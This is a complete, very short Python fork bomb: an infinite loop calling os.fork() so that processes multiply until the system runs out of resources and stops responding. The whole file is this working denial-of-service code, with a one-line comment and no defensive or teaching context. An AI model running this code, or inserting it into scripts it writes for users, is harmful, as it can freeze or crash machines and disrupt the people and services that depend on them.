# Every process starts another two.
import os

while True:
    os.fork()
